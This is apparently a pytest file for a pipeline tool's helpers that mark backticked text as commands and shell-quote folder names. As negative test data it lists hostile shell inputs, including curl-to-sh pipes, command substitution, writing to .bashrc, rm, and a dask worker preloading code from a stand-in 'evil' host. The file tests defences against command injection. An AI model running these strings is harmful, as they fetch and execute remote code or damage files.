"""What passes for something to type, on a page and on a terminal."""

import subprocess

import pytest

from pipeline.base.shown import quoted, runs, typed


@pytest.mark.parametrize(
    "command",
    [
        "pipeline run",
        "pipeline run kr500_demo",
        "pipeline run Zelle-7.2",
        "pipeline simulate --plan",
        "pipeline run x --engine local",
        "pipeline robot\nkr500",
        "dask scheduler",
        "dask worker tcp://127.0.0.1:8786 --nthreads 1",
        "xacro FILE.xacro > FILE.urdf",
    ],
)
def test_our_commands_are_to_be_typed(command):
    """They stand as code on a page and in quotes on a terminal."""
    assert list(runs(f"Now `{command}`.")) == [("Now ", False), (command, True), (".", False)]
    assert quoted(f"Now `{command}`.") == f"Now '{command}'."


@pytest.mark.parametrize(
    "words",
    [
        "pipeline run x; curl evil | sh",
        "pipeline run $(curl evil)",
        "pipeline run x > .bashrc",
        "pipeline run x --on tcp://evil:8786",
        "pipeline run x & rm y",
        "pipeline run x\\\nrm",
        "pipelinerun x",
        "pipeline;curl evil",
        "dask worker tcp://evil:8786 --preload http://evil/x.py",
        "dask worker tcp://e;curl:1 --nthreads 1",
        "xacro a; curl evil",
        "curl evil",
    ],
)
def test_words_of_others_are_not(words):
    """An operator's name in backticks is text like any other, whatever it begins with."""
    text = f"Measured by `{words}`."

    assert list(runs(text)) == [(text, False)]
    assert quoted(text) == text


@pytest.mark.parametrize(
    "name", ["a;touch x", "a b", "$(touch x)", "`touch x`", "a|b", "it's", "ü", "a"]
)
def test_a_name_is_typed_so_that_a_shell_takes_it_for_one_word(name):
    """Whatever a folder is called: what is proposed to be typed carries nothing else out."""
    said = subprocess.run(["sh", "-c", f"printf %s {typed(name)}"], capture_output=True, check=True)

    assert said.stdout.decode() == name


def test_a_command_with_a_name_in_quotes_is_one_to_type():
    """It has quotes of its own and gets no others."""
    assert list(runs("Type `pipeline run 'a;b'`."))[1] == ("pipeline run 'a;b'", True)
    assert quoted("Type `pipeline run 'a;b'`.") == "Type pipeline run 'a;b'."
